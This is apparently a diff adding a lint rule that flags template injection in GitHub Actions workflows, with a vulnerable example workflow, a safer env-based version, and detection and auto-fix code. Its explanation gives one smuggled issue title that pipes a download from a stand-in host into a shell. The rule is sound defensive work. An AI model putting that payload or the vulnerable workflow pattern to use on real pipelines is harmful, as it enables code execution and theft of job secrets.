@@ -1,0 +1,89 @@
+import { actions, attack, cwe } from '../../core/references.ts'
+import { defineRule, type Report, safeFix } from '../../core/rule.ts'
+import { runsInput } from '../../documents/action-scripts.ts'
+import { throughEnvironment } from '../../documents/script-fix.ts'
+import type { WorkflowExpression } from '../../documents/workflow-model.ts'
+import { shellLanguage } from '../../documents/workflow-shell.ts'
+import { untrustedParts } from '../../documents/workflow-untrusted.ts'
+
+export default defineRule({
+  id: 'workflow/template-injection',
+  severity: 'critical',
+  threat: 'access',
+  summary: 'Text that a stranger writes becomes part of a script',
+  why: 'The runner puts the text into the script before any shell reads it: a title such as `"; curl evil.example | sh; "` is then a command, with the secrets and the token of the job.',
+  instead: 'Give the value to the step in `env`, and read that variable in the script, in double quotes.',
+  references: [
+    actions('concepts/security/script-injections', 'script injections'),
+    { title: 'GitHub Security Lab: untrusted input', url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/' },
+    cwe(94),
+    attack('T1059'),
+  ],
+  peers: [
+    'zizmor:template-injection',
+    'actionlint:expression',
+    'checkov:CKV_GHA_2',
+    'scorecard:Dangerous-Workflow',
+    'semgrep:run-shell-injection',
+    'poutine:injection',
+    'kics:run_block_injection',
+  ],
+  bad: `
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-24.04
+    steps:
+      - name: Greet
+        run: |
+          echo "New issue: \${{ github.event.issue.title }}"
+`,
+  good: `
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-24.04
+    steps:
+      - name: Greet
+        env:
+          TITLE: \${{ github.event.issue.title }}
+        run: |
+          echo "New issue: \${TITLE}"
+`,
+  on: 'workflowExpression',
+  *check(found) {
+    const { expression, step } = found
+    if (!expression || !step || !isCode(found)) return
+    for (const { span, path, source } of untrustedParts(expression, found)) {
+      const read = path.join('.')
+      const origin = read === source ? '' : `, which holds ${source}`
+      yield {
+        at: { span: found.placeOf(span) },
+        severity: runsWithoutSecrets(found) ? 'high' : 'critical',
+        message: `"${read}"${origin}, is text of a stranger and becomes part of the ${found.scalar === step.run ? 'script' : 'code'}`,
+        fix: fixFor(found, path),
+      }
+    }
+  },
+})
+
+function isCode({ scalar, path, step }: WorkflowExpression): boolean {
+  const [place, input] = path.slice(-2)
+  return scalar === step?.run || (path.length > 1 && place === 'with' && runsInput(step?.reference?.name ?? '', String(input)))
+}
+
+/** A pull request from a fork gets neither secrets nor a token that writes, and could change the workflow itself. */
+const runsWithoutSecrets = ({ workflow }: WorkflowExpression): boolean => {
+  const events = [...(workflow?.triggers.keys() ?? [])]
+  return events.length > 0 && events.every((event) => event === 'pull_request')
+}
+
+function fixFor({ step, text, scalar }: WorkflowExpression, path: readonly string[]): Report['fix'] {
+  if (!step || scalar !== step.run || shellLanguage(step) !== 'posix') return undefined
+  const words = path.filter((word) => !['github', 'event', 'steps', 'outputs', '*'].includes(word))
+  const name = words.join('_').replace(/\W/g, '_').toUpperCase()
+  const edits = throughEnvironment(step, text, name)
+  return edits ? safeFix('Hand the text over in `env`', ...edits) : undefined
+}
